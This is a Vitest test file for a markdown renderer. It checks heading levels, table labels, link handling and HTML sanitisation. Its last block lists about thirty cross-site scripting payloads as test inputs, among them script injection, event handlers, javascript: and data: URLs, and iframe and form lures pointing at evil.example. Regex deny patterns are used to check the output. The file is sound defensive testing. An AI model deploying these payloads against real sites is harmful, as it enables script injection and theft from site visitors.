import { describe, expect, test } from 'vitest';
import { anyLink } from '../../test/any-link.ts';
import { renderMarkdown } from './markdown.ts';

const render = (markdown: string) => renderMarkdown(markdown, { language: 'en', topHeading: 2, links: anyLink });

describe('what an editor writes', () => {
  test('headings begin below the page’s own and skip no level', () => {
    expect(render('# One\n\n### Two\n\n###### Three\n\n## Four')).toBe(
      '<h2>One</h2>\n<h3>Two</h3>\n<h4>Three</h4>\n<h2>Four</h2>',
    );
  });

  test('headings can begin lower, as in the footer', () => {
    expect(renderMarkdown('# One\n\n## Two', { language: 'en', topHeading: 3, links: anyLink })).toBe(
      '<h3>One</h3>\n<h4>Two</h4>',
    );
  });

  test('a table scrolls by itself and keeps its alignment, without a style', () => {
    const html = render('| a | b |\n| --- | ---: |\n| 1 | 2 |');
    expect(html).toContain('<div class="table-scroll" role="region" tabindex="0" aria-label="Table"><table>');
    expect(html).toContain('<td class="align-right">2</td>');
    expect(html).toMatch(/<\/table><\/div>$/);
  });

  test('tables are told apart: by their captions, by the heading above them, or else by number', () => {
    const table = '| a |\n| --- |\n| 1 |';
    const captioned = '<table><caption>Seats <b>in all</b></caption><tr><td>1</td></tr></table>';
    const html = render(`${table}\n\n${table}\n\n## The "first" day\n\n${table}\n\n${captioned}\n\n${table}`);
    expect([...html.matchAll(/aria-label="([^"]*)"/g)].map(([, name]) => name)).toEqual([
      'Table',
      'Table (2)',
      'Table: The &quot;first&quot; day',
      'Table: Seats in all',
      'Table: The &quot;first&quot; day (2)',
    ]);
  });

  test('links to other sites do not hand themselves over; links within the site stay as they are', () => {
    expect(render('[a](https://example.org/) [b](/en/news/) [c](mailto:a@example.org)')).toBe(
      '<p><a href="https://example.org/" rel="noopener">a</a> <a href="/en/news/">b</a> <a href="mailto:a@example.org">c</a></p>',
    );
  });

  test('a picture becomes its alternative text', () => {
    expect(render('Before ![A ballot "box"](/uploads/box.jpg "title") after')).toBe(
      '<p>Before <span>A ballot "box"</span> after</p>',
    );
    expect(render('<img src="x" alt="A <b>box</b>">')).not.toContain('<img');
  });

  test('plain HTML of the harmless kind stays', () => {
    expect(render('H<sub>2</sub>O and <span lang="kk">сайлау</span>')).toBe(
      '<p>H<sub>2</sub>O and <span lang="kk">сайлау</span></p>',
    );
  });

  test('text that looks like HTML in code stays text', () => {
    expect(render('`<script>alert(1)</script>`')).toBe('<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>');
  });
});

describe('what would break the frame of the page', () => {
  test.each([
    '<table lang="kk"><tr><td>x</td></tr></table>',
    '<table id=a class=b>',
    'a</table></table></div>',
    '| a |\n|---|\n| `</table>` |',
  ])('%s', (markdown) => {
    const html = render(`${markdown}\n\nafter`);
    expect(html.split('<div').length).toBe(html.split('</div>').length);
    expect(html.split('<table>').length).toBe(html.split('</table>').length);
  });

  test('a heading or a table without a word is none', () => {
    expect(render('# \n\n### a\n\n<table><tr><td></td></tr></table>')).toBe('<h2>a</h2>');
  });

  test('of several tables each has a name of its own', () => {
    const html = render('|a|\n|-|\n\nb\n\n|c|\n|-|\n');
    expect(html.match(/aria-label="[^"]+"/g)).toEqual(['aria-label="Table"', 'aria-label="Table (2)"']);
  });

  test('an address that no browser can read is no link', () => {
    expect(render('[a](http://[::1) <a href="%zz">b</a>')).toBe('<p><a>a</a> <a>b</a></p>');
  });

  test('nesting that no parser follows is shown as it was written', () => {
    expect(render(`${'>'.repeat(5000)}a <b>`)).toBe(`<p>${'&gt;'.repeat(5000)}a &lt;b&gt;</p>`);
  });
});

describe('what an attacker writes', () => {
  test.each([
    '<script>alert(1)</script>',
    '<script src=//evil.example></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](java\tscript:alert(1))',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a](vbscript:x)',
    '[a](//evil.example/)',
    '![a](javascript:alert(1))',
    '![" onerror="alert(1)](x)',
    '<p style="position:fixed;inset:0">a</p>',
    '<style>body{display:none}</style>',
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name=p><button>a</button></form>',
    '<object data=x></object><embed src=x><link rel=stylesheet href=x><meta http-equiv=refresh content=0><base href=//evil.example>',
    '<div onclick=alert(1) id=content class="notice">a</div>',
    '<td class="notice site-header">a</td>',
    '<a href="https://example.org" target=_blank onmouseover=alert(1) class=skip-link>a</a>',
    '<textarea><script>alert(1)</script></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--><script>alert(1)</script>-->',
    '<template><script>alert(1)</script></template>',
    '<table><td background="javascript:alert(1)">a</td></table>',
    '<details open ontoggle=alert(1)>a</details>',
  ])('%s', (markdown) => {
    const html = render(markdown);
    expect(html).not.toMatch(
      /<(script|style|img|svg|math|iframe|form|input|button|object|embed|link|meta|base|textarea|noscript|template|details)\b/i,
    );
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style|id|target|background|srcdoc)\s*=/i);
    expect(html).not.toMatch(/<[^>]*(javascript|vbscript|data):/i);
    expect(html).not.toMatch(/href="\/\//);
    expect(html).not.toMatch(/class="(?!align-(center|right)"|table-scroll")/);
  });
});
